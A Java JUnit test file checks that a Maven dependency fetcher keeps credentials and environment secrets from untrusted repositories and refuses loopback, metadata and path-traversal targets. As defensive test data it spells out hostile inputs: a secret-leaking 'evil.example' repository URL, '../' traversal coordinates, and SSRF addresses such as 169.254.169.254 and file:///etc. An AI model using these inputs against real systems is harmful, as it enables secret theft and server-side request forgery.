package io.pinyon.projects;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import io.pinyon.projects.Fetch.Contact;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;

/// Fetching from a server in this process, which the user's settings make the mirror of Central.
@Timeout(120)
final class FetchTest extends MavenFixture {
  private final List<HttpServer> servers = new ArrayList<>();
  private final List<String> requests = Collections.synchronizedList(new ArrayList<>());
  private final Map<String, byte[]> content = new HashMap<>();
  private final Map<String, String> redirects = new HashMap<>();
  private final List<Contact> asked = new ArrayList<>();
  private Map<String, String> variables = Map.of();
  private boolean mayContact = true;
  private boolean isChallenging;
  private int port;

  @BeforeEach
  void startsServer() throws IOException {
    port = start("");
    settings("");
  }

  @AfterEach
  void stopsServers() {
    servers.forEach(each -> each.stop(0));
  }

  /// Requests are noted as `name path credentials`.
  private int start(String name) throws IOException {
    HttpServer server =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.createContext(
        "/",
        exchange -> {
          String path = exchange.getRequestURI().toString();
          String given = exchange.getRequestHeaders().getFirst("Authorization");
          String plain =
              given == null
                  ? ""
                  : new String(
                      Base64.getDecoder().decode(given.split(" ")[1]), StandardCharsets.UTF_8);
          requests.add((name + " " + path + " " + plain).strip());
          byte[] body = content.get(path.replaceFirst("\\.sha1$", ""));
          if (isChallenging && given == null) {
            exchange.getResponseHeaders().add("WWW-Authenticate", "Basic realm=\"x\"");
            exchange.sendResponseHeaders(401, -1);
          } else if (name.isEmpty() && redirects.containsKey(path)) {
            exchange.getResponseHeaders().add("Location", redirects.get(path));
            exchange.sendResponseHeaders(302, -1);
          } else if (body == null) {
            exchange.sendResponseHeaders(404, -1);
          } else {
            byte[] sent = path.endsWith(".sha1") ? sha1(body) : body;
            exchange.sendResponseHeaders(200, sent.length);
            exchange.getResponseBody().write(sent);
          }
          exchange.close();
        });
    server.start();
    servers.add(server);
    return server.getAddress().getPort();
  }

  private static byte[] sha1(byte[] body) {
    try {
      byte[] hash = MessageDigest.getInstance("SHA-1").digest(body);
      return HexFormat.of().formatHex(hash).getBytes(StandardCharsets.US_ASCII);
    } catch (java.security.NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }

  private void settings(String more) throws IOException {
    Path file = work.resolve("user/.m2/settings.xml");
    Files.createDirectories(file.getParent());
    Files.writeString(
        file,
        "<settings><mirrors><mirror><id>ours</id><mirrorOf>central</mirrorOf><url>http://127.0.0.1:"
            + port
            + "/m2</url></mirror></mirrors>"
            + more
            + "</settings>");
  }

  private void serve(String artifact, String body) {
    String base = "/m2/g/" + artifact + "/1/" + artifact + "-1";
    content.put(base + ".pom", pom(artifact, body).getBytes(StandardCharsets.UTF_8));
    content.put(base + ".jar", "jar".getBytes(StandardCharsets.UTF_8));
  }

  private Fetch.Result fetch() {
    Project.Machine machine = new Project.Machine(work.resolve("user"), variables);
    return Fetch.missing(
        root,
        machine,
        contacts -> {
          asked.addAll(contacts);
          return mayContact ? contacts : List.of();
        },
        each -> {});
  }

  private void dependencies(String more, String... dependencies) throws IOException {
    write(
        "pom.xml",
        pom("m", more + "\n<dependencies>" + String.join("\n", dependencies) + "</dependencies>"));
  }

  private static String repository(String id, String url) {
    return "\n<repositories><repository><id>"
        + id
        + "</id>\n<url>"
        + url
        + "</url></repository></repositories>";
  }

  private static final String A = dependency("a", "<version>1</version>");

  /// All files below the test's folder but those it made, by their path.
  private List<String> written() throws IOException {
    try (Stream<Path> files = Files.walk(work)) {
      return files
          .filter(Files::isRegularFile)
          .map(each -> work.relativize(each).toString())
          .filter(each -> !each.endsWith("pom.xml") && !each.endsWith("settings.xml"))
          .filter(each -> !each.endsWith("maven.config"))
          .filter(each -> !each.startsWith("user/.m2/repository/g/"))
          .sorted()
          .toList();
    }
  }

  @Test
  void missingLibrary_comesFromTheUsersMirror_withWhatItNeeds() throws Exception {
    serve("a", "<dependencies>" + dependency("b", "<version>1</version>") + "</dependencies>");
    serve("b", "");
    dependencies("", A);
    Fetch.Result result = fetch();
    assertEquals(Map.of(), result.failed());
    assertTrue(result.fetched().containsAll(List.of("g:a:1", "g:b:1")), result::toString);
    assertEquals(
        List.of(
            new Contact(
                "127.0.0.1",
                "http://127.0.0.1:" + port + "/m2",
                "a mirror in your settings.xml",
                true,
                2)),
        asked);
    assertEquals(List.of(), written());
    assertEquals(
        List.of("JAR g:a:1: dependency", "JAR g:b:1: needed by g:a"),
        show(module(read(), "g:m").compilePath()));
  }

  @Test
  void withoutConsent_nobodyIsContacted() throws Exception {
    serve("a", "");
    dependencies("", A);
    mayContact = false;
    Fetch.Result result = fetch();
    assertEquals(List.of(), requests);
    assertEquals("no repository may be contacted", result.failed().get("g:a:1"));
    assertEquals(List.of(), result.fetched());
    assertEquals(1, result.refused().size());
  }

  @Test
  void whatNobodyHas_isToldAsFailed() throws Exception {
    dependencies("", A);
    Fetch.Result result = fetch();
    assertEquals(List.of(), result.fetched());
    assertEquals(List.of("g:a:1 (pom)", "g:a:1"), List.copyOf(result.failed().keySet()));
  }

  @Test
  void model_whoseLibrariesAreMissing_asksNobody() throws Exception {
    serve("a", "");
    serve("p", "");
    dependencies("", A);
    write(
        "q/pom.xml",
        pom(
            "q",
            "<parent><groupId>g</groupId><artifactId>p</artifactId>"
                + "<version>1</version></parent>"));
    assertEquals("MISSING", module(read(), "g:m").compilePath().getFirst().kind().name());
    assertEquals(List.of(), requests);
  }

  @Test
  void nameThatLeadsToThisMachine_isNotContacted_thoughTheUserAgrees() throws Exception {
    for (String host : List.of("loopback", "link", "any")) {
      String url = "https://" + host + NamesOfTests.SUFFIX + ":" + port + "/m2";
      dependencies(repository("x", url), A);
      Fetch.Result result = fetch();
      assertTrue(asked.stream().anyMatch(each -> each.url().equals(url)), asked::toString);
      assertEquals("pom.xml:7: its name leads to this machine", result.refused().get(url));
    }
    assertTrue(requests.stream().allMatch(each -> each.startsWith("/m2/")), requests::toString);
  }

  @Test
  void nothingMissing_asksNobody() throws Exception {
    publish("a", "");
    dependencies("", A);
    assertEquals(List.of(), fetch().fetched());
    assertEquals(List.of(), asked);
    assertEquals(List.of(), requests);
  }

  @Test
  void credentials_goToTheUsersMirror() throws Exception {
    serve("a", "");
    isChallenging = true;
    settings(
        "<servers><server><id>ours</id><username>u</username><password>p</password></server></servers>");
    dependencies("", A);
    assertEquals(Map.of(), fetch().failed());
    assertTrue(requests.contains("/m2/g/a/1/a-1.jar u:p"), requests::toString);
  }

  @Test
  void credentials_goToNoRepositoryOfAWorkspace_whateverItsId() throws Exception {
    isChallenging = true;
    settings(
        "<servers>"
            + Stream.of("ours", "central", "corp", "prof")
                .map(each ->
                    "<server><id>"
                        + each
                        + "</id><username>u</username><password>p</password></server>")
                .reduce("", String::concat)
            + "</servers><profiles><profile><id>p</id><repositories><repository><id>prof</id><url>http://127.0.0.1:"
            + port
            + "/prof</url></repository></repositories></profile></profiles><activeProfiles><activeProfile>p</activeProfile></activeProfiles>");
    int evil = start("evil");
    for (String id : List.of("ours", "central", "corp", "prof", "other")) {
      dependencies(repository(id, "http://127.0.0.1:" + evil + "/m2"), A);
      Fetch.Result result = fetch();
      assertEquals(1, result.refused().size(), result::toString);
    }
    assertFalse(requests.stream().anyMatch(each -> each.startsWith("evil")), requests::toString);
    assertTrue(requests.contains("/prof/g/a/1/a-1.jar u:p"), requests::toString);
  }

  @Test
  void redirect_toAnotherHost_carriesNoCredentials() throws Exception {
    isChallenging = true;
    serve("a", "");
    int other = start("other");
    for (String each : List.copyOf(content.keySet())) {
      redirects.put(each, "http://localhost:" + other + each);
    }
    settings(
        "<servers><server><id>ours</id><username>u</username><password>p</password></server></servers>");
    dependencies("", A);
    fetch();
    assertTrue(requests.contains("/m2/g/a/1/a-1.jar u:p"), requests::toString);
    assertTrue(requests.contains("other /m2/g/a/1/a-1.jar"), requests::toString);
    assertFalse(requests.contains("other /m2/g/a/1/a-1.jar u:p"), requests::toString);
  }

  @Test
  void environmentAndUserProperties_neverLeaveTheMachine() throws Exception {
    variables = Map.of("SECRET", "topsecret");
    settings(
        "<profiles><profile><id>p</id><properties><token>topsecret</token></properties></profile></profiles>"
            + "<activeProfiles><activeProfile>p</activeProfile></activeProfiles>");
    dependencies(
        repository("x", "https://evil.example/${env.SECRET}/${user.home}"),
        dependency("a", "<version>${env.SECRET}</version>"),
        dependency("b", "<version>1-${user.name}</version>"),
        dependency("c", "<version>1-${token}</version>"),
        dependency("d", "<version>1</version><classifier>${env.SECRET}</classifier>"),
        dependency("e", "<version>${project.basedir}</version>"),
        dependency("f", "<version>1</version>"));
    Fetch.Result result = fetch();
    assertTrue(requests.stream().anyMatch(each -> each.contains("/f/1/")), requests::toString);
    for (String each : List.of("topsecret", System.getProperty("user.name"), work.toString())) {
      assertFalse(requests.toString().contains(each), requests::toString);
    }
    assertTrue(
        result.failed().get("g:a:topsecret").contains("is not sent to anybody"), result::toString);
    assertEquals(
        List.of("https://evil.example/${env.SECRET}/${user.home}"),
        List.copyOf(result.refused().keySet()));
  }

  @Test
  void profileOfAPom_doesNotTellWhatLiesOutsideOfTheWorkspace() throws Exception {
    Files.writeString(work.resolve("user/private"), "");
    String profile =
        "<profiles><profile><id>%s</id><activation><file><exists>%s</exists></file></activation><dependencies>%s</dependencies></profile></profiles>";
    for (String place :
        List.of(
            work.resolve("user/private").toString(),
            "${basedir}/../user/private",
            "${user.home}")) {
      write("pom.xml", pom("m", profile.formatted("p", place, A)));
      fetch();
    }
    assertEquals(List.of(), requests);
    write("pom.xml", pom("m", profile.formatted("p", "${basedir}/pom.xml", A)));
    fetch();
    assertTrue(requests.contains("/m2/g/a/1/a-1.jar"), requests::toString);
  }

  @Test
  void coordinatesThatLeadOut_areNotAskedFor_andNothingIsWritten() throws Exception {
    for (String bad :
        List.of(
            "<classifier>c/../../../../../../../ESCAPED</classifier>",
            "<type>x/../../../../../../ESCAPED</type>",
            "<classifier>..%2f..%2fESCAPED</classifier>",
            "<classifier>c\\..\\..\\ESCAPED</classifier>")) {
      dependencies("", dependency("a", "<version>1</version>" + bad));
      fetch();
    }
    dependencies("", dependency("../../ESCAPED", "<version>1</version>"));
    fetch();
    dependencies("", dependency("a", "<version>../../../../ESCAPED</version>"));
    fetch();
    assertEquals(List.of(), requests);
    assertEquals(List.of(), written());
  }

  @Test
  void coordinatesOfADownloadedPom_thatLeadOut_areNotAskedFor() throws Exception {
    serve(
        "a",
        "<dependencies>"
            + dependency("b", "<version>1/../../../ESCAPED</version>")
            + dependency("c", "<version>1</version><classifier>x/../../ESCAPED</classifier>")
            + "</dependencies>");
    content.put(
        "/m2/g/p/1/p-1.pom",
        pom(
                "p",
                "<parent><groupId>g</groupId><artifactId>../../ESCAPED</artifactId><version>1</version></parent>")
            .getBytes(StandardCharsets.UTF_8));
    dependencies("", A, dependency("p", "<version>1</version>"));
    fetch();
    assertTrue(requests.contains("/m2/g/a/1/a-1.jar"), requests::toString);
    assertFalse(requests.toString().contains("ESCAPED"), requests::toString);
    assertEquals(List.of(), written());
  }

  @Test
  void repositoryOfADownloadedPom_isNotContacted() throws Exception {
    int evil = start("evil");
    variables = Map.of("SECRET", "topsecret");
    serve(
        "a",
        repository("e", "http://127.0.0.1:" + evil + "/${env.SECRET}")
            + "<dependencies>"
            + dependency("b", "<version>1</version>")
            + "</dependencies>");
    dependencies("", A);
    fetch();
    assertTrue(requests.contains("/m2/g/b/1/b-1.pom"), requests::toString);
    assertFalse(requests.stream().anyMatch(each -> each.startsWith("evil")), requests::toString);
  }

  @Test
  void localRepositoryOfAWorkspace_isNotWrittenTo() throws Exception {
    serve("a", "");
    for (String place : List.of("inside/repo", "../outside", work.resolve("abs").toString())) {
      write(".mvn/maven.config", "-Dmaven.repo.local=" + place + "\n");
      dependencies("", A);
      fetch();
    }
    assertEquals(List.of(), written());
    assertTrue(Files.exists(repository.resolve("g/a/1/a-1.jar")));
  }

  @Test
  void settingsAndPropertiesOfAWorkspace_moveNoMirror() throws Exception {
    serve("a", "");
    int evil = start("evil");
    Path file = work.resolve("user/.m2/settings.xml");
    Files.writeString(
        file, Files.readString(file).replace("127.0.0.1:" + port + "/m2", "${mirror.host}/m2"));
    write(".mvn/maven.config", "-Dmirror.host=127.0.0.1:" + evil + "\n-s=.mvn/settings.xml\n");
    write(
        ".mvn/settings.xml", Files.readString(file).replace("${mirror.host}", "127.0.0.1:" + evil));
    dependencies("", A);
    fetch();
    assertEquals(List.of(), requests);
  }

  @Test
  @EnabledOnOs({OS.LINUX, OS.MAC})
  void linkInTheLocalRepository_thatLeadsOut_isNotWrittenThrough() throws Exception {
    serve("a", "");
    Path outside = Files.createDirectories(work.resolve("elsewhere"));
    Files.createDirectories(repository.resolve("g"));
    Files.createSymbolicLink(repository.resolve("g/a"), outside);
    dependencies("", A);
    Fetch.Result result = fetch();
    assertEquals(List.of(), written());
    assertTrue(
        result.failed().get("g:a:1").contains("outside of the local repository"), result::toString);
  }

  @Test
  void repositoriesOfAWorkspace_areToldApart() throws Exception {
    settings(
        "<profiles><profile><id>p</id><repositories><repository><id>users</id>"
            + "<url>https://users.example/m2</url></repository></repositories></profile></profiles>"
            + "<activeProfiles><activeProfile>p</activeProfile></activeProfiles>");
    Map<String, String> reasons = new TreeMap<>();
    for (String url :
        List.of(
            "http://corp.example/m2",
            "https://localhost/m2",
            "https://127.0.0.1/m2",
            "https://2130706433/m2",
            "https://0x7f.1/m2",
            "https://[::1]/m2",
            "https://169.254.169.254/latest",
            "https://user:pw@corp.example/m2",
            "file:///etc",
            "ftp://corp.example/",
            "jar:file:/a!/b",
            "//corp.example/m2",
            "https:///m2",
            "https://corp.example/m2",
            "https://10.1.2.3/m2",
            "https://users.example/m2/")) {
      dependencies(repository("x", url), A);
      mayContact = false;
      asked.clear();
      Fetch.Result result = fetch();
      String contact =
          asked.stream()
              .filter(each -> !each.isUsers())
              .map(Contact::namedBy)
              .findFirst()
              .orElse("");
      reasons.put(
          url,
          contact.isEmpty() ? result.refused().getOrDefault(url, "known") : "asked: " + contact);
    }
    assertEquals("asked: pom.xml:7", reasons.remove("https://corp.example/m2"));
    assertEquals("asked: pom.xml:7", reasons.remove("https://10.1.2.3/m2"));
    assertEquals("known", reasons.remove("https://users.example/m2/"));
    assertTrue(reasons.remove("http://corp.example/m2").contains("must be reached by https"));
    reasons.forEach(
        (url, reason) -> assertTrue(reason.startsWith("pom.xml:7: "), () -> url + " " + reason));
    assertEquals(List.of(), requests);
  }
}
